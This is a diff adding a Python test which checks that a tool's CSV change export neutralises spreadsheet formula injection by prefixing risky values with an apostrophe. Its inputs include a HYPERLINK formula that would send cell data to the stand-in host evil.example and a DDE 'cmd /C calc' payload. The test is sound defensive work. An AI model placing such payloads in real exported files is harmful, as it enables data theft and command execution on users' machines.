@@ -72,3 +72,40 @@ def test_a_draft_name_chooses_neither_the_path_nor_the_terminal(tmp_path: Path, 
     printed = out.getvalue() + err.getvalue()
     assert "\x1b" not in printed and "\x07" not in printed and "\\x1b" in printed
     assert "\nEvil" not in printed
+
+
+def test_a_draft_value_cannot_run_as_a_formula_in_the_change_file(tmp_path: Path, monkeypatch) -> None:
+    """A modeller's value `=HYPERLINK(...)` (or `@`, `+`, `-`, a tab) in the change file, which people open in
+    a spreadsheet, starts with `'`; a plain negative number stays a number; the source file keeps the exact
+    value (orgsync reads it back: see docs/drafts.md)."""
+    t = _query_repo(tmp_path, monkeypatch)
+    ids = item_ids(t, "Units", "unit_id")
+    seed_draft(
+        t,
+        "Units",
+        "Plan",
+        [
+            {"_action": "update", "_id": ids["U2"], "name": '=HYPERLINK("http://evil.example/?"&A1,"open")'},
+            {"_action": "update", "_id": ids["U1"], "name": "@SUM(1+1)*cmd|' /C calc'!A0", "budget": -5},
+            {"_action": "create", "unit_id": "+U9", "name": "-2+3", "parent": "-U1"},
+        ],
+    )
+
+    assert (
+        run_draft_pull(
+            DraftOptions(root=t.root, name="Plan", include_sensitive=True),
+            stdout=io.StringIO(),
+            stderr=io.StringIO(),
+        )
+        == 0
+    )
+
+    assert (t.root / "changes" / "plan.csv").read_text() == (
+        "key,label,property,before,after\n"
+        'U2,Finance,name,Finance,"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n'
+        "U1,Head Office,name,Head Office,'@SUM(1+1)*cmd|' /C calc'!A0\n"
+        "U1,Head Office,budget,1,-5\n"
+        "'+U9,'-2+3,unit_id,,'+U9\n"
+        "'+U9,'-2+3,name,,'-2+3\n"
+        "'+U9,'-2+3,parent,,'-U1\n"
+    )
